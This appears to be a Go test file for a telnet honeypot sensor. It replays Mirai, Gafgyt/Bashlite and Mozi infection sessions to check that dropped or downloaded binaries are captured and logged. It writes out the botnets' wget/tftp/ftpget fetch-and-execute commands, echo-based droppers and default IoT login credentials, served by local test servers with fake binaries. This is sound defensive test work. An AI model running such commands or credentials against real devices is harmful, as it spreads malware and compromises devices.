package telnet_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/export/cowrie"
	"github.com/kansoku/kansoku/internal/sensor"
	"github.com/kansoku/kansoku/internal/sensortest"
)

// echoLines splits data into Mirai-loader echo lines of n bytes each.
func echoLines(data []byte, n int, file string) []string {
	var out []string
	for i := 0; i < len(data); i += n {
		var b strings.Builder
		for _, c := range data[i:min(i+n, len(data))] {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
		op := ">>"
		if i == 0 {
			op = ">"
		}
		out = append(out, fmt.Sprintf("/bin/busybox echo -ne '%s' %s %s; /bin/busybox ECCHI", b.String(), op, file))
	}
	return out
}

const notFound = "ECCHI: applet not found"

// miraiPreamble is what Mirai's loader (loader/src/server.c) sends after
// logging in: vendor-CLI escapes, then probes each followed by the
// nonexistent applet whose error marks the end of the output.
func miraiPreamble(t *testing.T, cl *client) {
	for _, l := range []string{"enable", "system", "shell", "sh"} {
		cl.send(l + "\r\n")
	}
	cl.send("/bin/busybox ECCHI\r\n")
	cl.expect(notFound)
	cl.send("/bin/busybox ps; /bin/busybox ECCHI\r\n")
	cl.expect(notFound)
	cl.send("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n")
	out := cl.expect(notFound)
	if !strings.Contains(out, "/proc proc") && !strings.Contains(out, " / ") {
		t.Errorf("/proc/mounts output %q", out)
	}
	cl.send("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon\r\n")
	cl.expect("kami/tmp")
	cl.send("cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n")
	cl.expect(notFound)
	cl.send("/bin/busybox cat /bin/echo\r\n/bin/busybox ECCHI\r\n")
	elf := cl.expect(notFound)
	if !strings.Contains(elf, "\x7fELF") {
		t.Errorf("/bin/echo is not an ELF file: %q", elf[:min(len(elf), 64)])
	}
}

func TestReplayMiraiEchoLoader(t *testing.T) {
	in := sensortest.Start(t, sensortest.Options{Factory: "telnet", Config: routerConfig, Env: withFetcher}, sensor.DefaultLimits())
	cl := newClient(t, in.Dial(t, ""))
	login(t, cl, "root", "xc3511")
	miraiPreamble(t, cl)
	bin := fakeELF(6000)
	lines := echoLines(bin, 128, "dvrHelper")
	for _, l := range lines {
		cl.send(l + "\r\n")
		cl.expect(notFound)
	}
	cl.send("./dvrHelper telnet.loader; /bin/busybox IHCCE\r\n")
	cl.expect("IHCCE: applet not found")
	cl.send("exit\r\n")
	evs := in.Recorder.WaitFor(t, "sample", sensortest.Wait, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "session.closed", nil) == 1 && sensortest.Count(evs, "session.recording", nil) == 1
	})
	want := sha(bin)
	if _, ok := in.Recorder.Samples()[want]; !ok {
		t.Fatalf("dropped binary %s not captured; samples %v", want, keys(in.Recorder.Samples()))
	}
	var drop, sample *event.Event
	for _, e := range evs {
		if e.Kind == "command.dropper" {
			drop = e
		}
		if e.Kind == "sample.captured" && e.Str("sha256") == want {
			sample = e
		}
	}
	if drop == nil || drop.Int("lines") != int64(len(lines)) || strings.Count(drop.Text("transcript"), "\n") != len(lines) {
		t.Fatalf("command.dropper lines %d", drop.Int("lines"))
	}
	if !strings.HasSuffix(sample.Text("path"), "/dvrHelper") || sample.Str("trigger") != "exec" || sample.Text("commands") == "" {
		t.Fatalf("sample.captured path %q trigger %q", sample.Text("path"), sample.Str("trigger"))
	}
	inputs := 0
	for _, e := range evs {
		if e.Kind == "command.input" {
			inputs++
		}
	}
	if inputs < 8 {
		t.Fatalf("only %d command.input events", inputs)
	}
	if all := strings.ToLower(cl.all.String()); strings.Contains(all, "honeypot") || strings.Contains(all, "kansoku") {
		t.Fatal("the session's output names the honeypot")
	}
	// The same session as Cowrie would have logged it.
	ids := map[string]int{}
	for _, e := range evs {
		for _, r := range cowrie.ConvertAll(e) {
			ids[r["eventid"].(string)]++
			if r["session"] != e.Session || r["src_ip"] != "127.0.0.1" || r["message"] == "" {
				t.Fatalf("cowrie record %v", r)
			}
		}
	}
	if ids["cowrie.session.connect"] != 1 || ids["cowrie.login.success"] != 1 || ids["cowrie.session.closed"] != 1 ||
		ids["cowrie.command.input"] != inputs+len(lines) || ids["cowrie.session.file_download"] != 1 || ids["cowrie.client.size"] != 0 {
		t.Fatalf("cowrie records %v", ids)
	}
}

func TestReplayMiraiWgetLoader(t *testing.T) {
	srv := newBinServer(t)
	bin := fakeELF(70000)
	url := srv.add("/bins/mirai.mpsl", bin)
	in := sensortest.Start(t, sensortest.Options{Factory: "telnet", Config: routerConfig, Env: withFetcher}, sensor.DefaultLimits())
	cl := newClient(t, in.Dial(t, ""))
	login(t, cl, "admin", "admin")
	miraiPreamble(t, cl)
	cl.send("/bin/busybox wget " + url + " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n")
	cl.expect(notFound)
	cl.send("/bin/busybox wget http://127.0.0.1:1/bins/mirai.arm -O - > d2; /bin/busybox ECCHI\r\n")
	cl.expect(notFound)
	cl.send("./dvrHelper telnet.mpsl; /bin/busybox IHCCE\r\n")
	cl.expect("IHCCE")
	c := cl.c
	c.Close()
	evs := in.Recorder.WaitFor(t, "close", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "session.recording", nil) == 1 })
	var ok, failed *event.Event
	for _, e := range evs {
		switch e.Kind {
		case "download.ok":
			ok = e
		case "download.failed":
			failed = e
		}
	}
	if ok == nil || ok.Text("url") != url || ok.Str("sha256") != sha(bin) || ok.Int("size") != int64(len(bin)) || ok.Str("tool") != "wget" {
		t.Fatalf("download.ok = %+v", ok)
	}
	if failed == nil || failed.Str("error") != "connection" {
		t.Fatalf("download.failed = %+v", failed)
	}
	if _, have := in.Recorder.Samples()[sha(bin)]; !have {
		t.Fatal("downloaded binary not stored")
	}
	if n := sensortest.Count(evs, "sample.captured", func(e *event.Event) bool { return e.Str("sha256") == sha(bin) }); n != 1 {
		t.Fatalf("%d sample.captured for the binary, want 1", n)
	}
}

// TestReplayGafgyt replays the one-line infection of Gafgyt/Bashlite
// telnet scanners: try several directories, fetch a shell script that
// fetches the binaries, run it, clean up.
func TestReplayGafgyt(t *testing.T) {
	srv := newBinServer(t)
	arm, mips, x86, ppc := fakeELF(9000), fakeELF(11000), fakeELF(1500), fakeELF(7000)
	urlArm := srv.add("/bins/gaf.arm", arm)
	urlMips := srv.add("/bins/gaf.mips", mips)
	script := fmt.Sprintf("#!/bin/sh\ncd /tmp || cd /var/run\nwget %s; chmod +x gaf.arm; ./gaf.arm\nwget %s; chmod +x gaf.mips; ./gaf.mips\nrm -rf gaf.arm gaf.mips\n", urlArm, urlMips)
	urlSh := srv.add("/bins.sh", []byte(script))
	tftpPort := serveTFTP(t, map[string][]byte{"tftp2.sh": x86})
	ftpPort := serveFTP(t, map[string][]byte{"ftp1.sh": ppc})
	in := sensortest.Start(t, sensortest.Options{Factory: "telnet", Config: routerConfig, Env: withFetcher}, sensor.DefaultLimits())
	cl := newClient(t, in.Dial(t, ""))
	login(t, cl, "root", "root")
	cl.run("sh", "# ")
	// The Bashlite one-liner, with the servers' test ports added.
	cl.run(fmt.Sprintf("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget %s; chmod 777 bins.sh; sh bins.sh; "+
		"tftp -r tftp2.sh -g 127.0.0.1 %d; chmod 777 tftp2.sh; sh tftp2.sh; "+
		"ftpget -v -u anonymous -p anonymous -P %d 127.0.0.1 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh", urlSh, tftpPort, ftpPort), "# ")
	cl.send("exit\r\n")
	evs := in.Recorder.WaitFor(t, "close", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "session.recording", nil) == 1 })
	urls := map[string]string{}
	for _, e := range evs {
		if e.Kind == "download.ok" {
			urls[e.Text("url")] = e.Str("tool")
		}
	}
	for _, u := range []string{urlSh, urlArm, urlMips} {
		if urls[u] != "wget" {
			t.Errorf("no wget download.ok for %s (have %v)", u, urls)
		}
	}
	tools := map[string]bool{}
	for _, tool := range urls {
		tools[tool] = true
	}
	if !tools["tftp"] || !tools["ftpget"] {
		t.Errorf("tftp/ftpget downloads missing: %v", urls)
	}
	samples := in.Recorder.Samples()
	for _, b := range [][]byte{arm, mips, []byte(script), x86, ppc} {
		if _, ok := samples[sha(b)]; !ok {
			t.Errorf("sample %s not captured", sha(b)[:12])
		}
	}
}

// TestReplayMozi replays Mozi's telnet infection (Netlab 360's write-up):
// find a writable directory with >FILE && cd, then fetch the "i" loader.
func TestReplayMozi(t *testing.T) {
	srv := newBinServer(t)
	loader := fakeELF(5000)
	url := srv.add("/i", loader)
	in := sensortest.Start(t, sensortest.Options{Factory: "telnet", Config: routerConfig, Env: withFetcher}, sensor.DefaultLimits())
	cl := newClient(t, in.Dial(t, ""))
	login(t, cl, "root", "hi3518")
	for _, l := range []string{"enable", "shell", "sh"} {
		cl.run(l, "# ")
	}
	for _, d := range []string{"/tmp", "/var", "/dev", "/mnt", "/var/run", "/var/tmp", "/", "/dev/shm", "/usr"} {
		cl.run(">"+strings.TrimSuffix(d, "/")+"/.ptmx && cd "+d+"/", "# ")
	}
	out := cl.run("/bin/busybox rm -rf i Mozi.m; /bin/busybox wget http://"+strings.TrimPrefix(url, "http://")+" -O i; /bin/busybox chmod +x i; ./i ; /bin/busybox rm -rf i", "# ")
	if strings.Contains(out, "not found") && !strings.Contains(out, "i:") {
		t.Logf("shell output %q", out)
	}
	cl.send("exit\r\n")
	evs := in.Recorder.WaitFor(t, "close", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "session.recording", nil) == 1 })
	if n := sensortest.Count(evs, "download.ok", func(e *event.Event) bool { return e.Text("url") == url && e.Str("sha256") == sha(loader) }); n != 1 {
		t.Fatalf("%d download.ok for %s", n, url)
	}
	if _, ok := in.Recorder.Samples()[sha(loader)]; !ok {
		t.Fatal("Mozi loader not captured")
	}
}

func TestFetcherDisabled(t *testing.T) {
	in := sensortest.Start(t, sensortest.Options{Factory: "telnet", Config: routerConfig}, sensor.DefaultLimits())
	cl := newClient(t, in.Dial(t, ""))
	login(t, cl, "root", "admin")
	out := cl.run("wget http://198.51.100.7/x.sh", "# ")
	if strings.Contains(strings.ToLower(out), "honeypot") || strings.Contains(out, "disabled") {
		t.Fatalf("wget output gives the sensor away: %q", out)
	}
	cl.send("exit\r\n")
	evs := in.Recorder.WaitFor(t, "close", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "session.closed", nil) == 1 })
	if sensortest.Count(evs, "download.failed", func(e *event.Event) bool { return e.Str("error") == "fetcher-disabled" }) != 1 {
		t.Fatal("no download.failed with error fetcher-disabled")
	}
}

func keys(m map[string][]byte) []string {
	var out []string
	for k := range m {
		out = append(out, k[:12])
	}
	return out
}
